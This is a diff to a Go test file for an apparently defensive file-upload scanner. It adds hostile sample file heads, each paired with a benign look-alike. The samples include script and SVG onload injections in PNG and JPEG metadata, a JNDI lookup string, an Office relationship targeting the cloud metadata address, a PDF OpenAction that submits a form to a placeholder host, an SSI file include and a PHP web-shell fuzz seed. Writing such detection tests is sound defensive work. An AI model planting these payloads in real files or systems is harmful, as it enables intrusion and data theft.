@@ -62,7 +62,20 @@ func TestSigns(t *testing.T) {
 	f(&commandCall, point.FileHead, `<cfscript>createObject("java","java.lang.Runtime").getRuntime()`, `<cfscript>k=1;`)
 	f(&commandCall, point.FileHead, "<?php @error_reporting(0);function k($l){return $l;}", "<?php error_reporting(E_ALL);function k($l){return $l;}")
 	f(&commandCall, point.FileHead, `<cfexecute name="k">`, `<jsp:include page="k">`)
+	f(&pictureText, point.FileHead, png("tEXt", "Title\x00<svg onload=k()>"), png("tEXt", "Title\x00<svg width=2>"))
+	f(&pictureText, point.FileHead, png("iTXt", "Author\x00${jndi:ldap://k.example}"), png("IDAT", "Author\x00${jndi:ldap://k.example}"))
+	f(&pictureText, point.FileHead, "\xff\xd8\xff\xe1\x00\x1aExif\x00\x00<script>k()</script>", "\xff\xd8\xff\xda\x00\x08Exif\x00\x00<script>k()</script>")
+	f(&readerCode, point.FileHead, `<Relationships><Relationship Target="http://169.254.169.254/k" TargetMode="External"/>`, `<Relationships><Relationship Target="https://k.example/l" TargetMode="External"/>`)
+	f(&readerCode, point.FileHead, "%PDF-1.4 <</FontMatrix[1 0 0 1 0 (k\\)//)]>>", "%PDF-1.4 <</FontMatrix[1 0 0 1 0 0]>>")
+	f(&readerCode, point.FileHead, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.submitForm\("http://k.example"\))>>>>`, `%PDF-1.4 <</OpenAction<</S/JavaScript/JS(this.print\(true\))>>>>`)
+	f(&commandCall, point.FileHead, `<!--#include file="/etc/k"-->`, `<!--#include virtual="/k.html"-->`)
 	f(&settings, point.FileHead, `<system.web><httpHandlers><add/>`, `<system.web><pages/>`)
+}
+
+// png returns the beginning of a picture with one chunk behind its head.
+func png(kind, content string) string {
+	const head = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
+	return head + "\x00\x00\x00" + string(rune(len(content))) + kind + content + "\x00\x00\x00\x00"
 }
 
 // tar returns an archive of empty members.
@@ -127,5 +140,5 @@ func TestWorstCasesEnd(*testing.T) {
 }
 
 func FuzzScan(f *testing.F) {
-	detector.Fuzz(f, point.FileHead, "<?php system($_GET[1]);", "GIF8<?php ", "<svg onload=x>", "a.php.jpg", "PK\x03\x04")
+	detector.Fuzz(f, point.FileHead, "<?php system($_GET[1]);", "GIF8<?php ", "<svg onload=x>", "a.php.jpg", "PK\x03\x04", png("tEXt", "k\x00<script"), "\xff\xd8\xff\xe1\x00\x09<script")
 }
